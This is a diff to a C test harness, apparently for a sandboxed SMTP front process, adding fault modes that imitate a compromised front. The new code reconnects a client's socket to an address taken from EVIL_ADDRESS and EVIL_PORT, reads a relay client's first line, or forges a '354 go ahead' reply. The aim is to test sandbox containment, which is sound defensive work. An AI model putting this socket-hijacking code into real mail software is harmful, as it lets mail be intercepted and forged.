@@ -10,12 +10,18 @@
  *   foreign    every session is handed over with an envelope and a message for somebody elsewhere
  *   ours       with an envelope and a message for a valid recipient
  *   secured, secured-foreign, secured-ours    as it is, or as above, each with TLS that it makes up
+ *   port       a stranger's socket is connected to EVIL_ADDRESS, port EVIL_PORT, and handed over as who is there
+ *   reconnect, steal, forge   with a duplicate of a relay client's socket, once the launcher has taken that: connects it
+ *              there, too; reads the client's first line; or answers it
  *   execute    it tries to get another program to run before each hand-over: that of the variable EVIL_PROGRAM
  *   unconfined as execute, without Landlock and seccomp: shows that the tries could succeed
  */
 #define _GNU_SOURCE 1
 #include <errno.h>
+#include <arpa/inet.h>
 #include <fcntl.h>
+#include <netinet/in.h>
+#include <poll.h>
 #include <signal.h>
 #include <spawn.h>
 #include <stdio.h>
@@ -33,6 +39,7 @@ enum dialogue_answer __real_controls_rcpthosts(void *arg, const char *recipient)
 enum dialogue_answer __real_controls_validrcptto(void *arg, const char *recipient);
 enum tcprule __real_controls_rule(struct controls *c, struct tcprule_found *found, const struct address *client);
 int __real_link_send(struct front *f, struct session *s, const char *bytes, size_t len);
+void __real_session_answered(struct front *f, struct session *s, enum frontlink_answer answer);
 int __real_frontjail(struct front *f, const char *rules_directory, const char **missing);
 
 static int is(const char *fault)
@@ -169,12 +176,81 @@ static void try_to_execute(struct front *f)
     close(fd);
 }
 
+/* ---- what it does with the socket of a client ---- */
+
+static int wait_for(int fd, short events)
+{
+  struct pollfd one = {fd, events, 0};
+
+  return poll(&one, 1, 30000) == 1;
+}
+
+static int connect_again(int fd)
+{
+  struct sockaddr none = {0};
+  struct sockaddr_in there = {0};
+  int error = 1;
+  socklen_t len = sizeof error;
+
+  none.sa_family = AF_UNSPEC;
+  there.sin_family = AF_INET;
+  there.sin_port = htons((uint16_t) atoi(getenv("EVIL_PORT")));
+  there.sin_addr.s_addr = inet_addr(getenv("EVIL_ADDRESS"));
+  if (connect(fd, &none, sizeof none) == -1)
+    return 0;
+  if (connect(fd, (struct sockaddr *) &there, sizeof there) == -1 && errno != EINPROGRESS)
+    return 0;
+  return wait_for(fd, POLLOUT) && getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &len) == 0 && !error;
+}
+
+static int read_a_line(int fd)
+{
+  char byte;
+
+  do
+    if (!wait_for(fd, POLLIN) || read(fd, &byte, 1) != 1)
+      return 0;
+  while (byte != '\n');
+  return 1;
+}
+
+static int meddle(int fd)
+{
+  static const char answer[] = "354 go ahead\r\n";
+
+  if (is("reconnect"))
+    return connect_again(fd);
+  return is("steal") ? read_a_line(fd) : write(fd, answer, strlen(answer)) == (ssize_t) strlen(answer);
+}
+
+void __wrap_session_answered(struct front *f, struct session *s, enum frontlink_answer answer)
+{
+  int fd = -1;
+
+  if ((is("reconnect") || is("steal") || is("forge")) && answer == FRONTLINK_TAKEN && s->relay)
+    fd = dup(s->watch.fd);   /* never closed, as it would */
+  __real_session_answered(f, s, answer);
+  if (fd != -1)
+    tell(f, "meddles", !meddle(fd));
+}
+
+static int pretended(struct front *f, struct session *s)
+{
+  static const struct handover nothing;
+  static char bytes[HANDOVER_MAX];
+
+  tell(f, "connects", !connect_again(s->watch.fd));
+  return __real_link_send(f, s, bytes, handover_write(bytes, &nothing));
+}
+
 int __wrap_link_send(struct front *f, struct session *s, const char *bytes, size_t len)
 {
   if (is("execute") || is("unconfined"))
     try_to_execute(f);
   if (is("secured") || is("secured-foreign") || is("secured-ours"))
     make_up_tls(s);
+  if (is("port") && !s->relay)
+    return pretended(f, s);
   if (is("swap"))
     return swapped(f, s, bytes, len);
   if (is("foreign") || is("secured-foreign"))
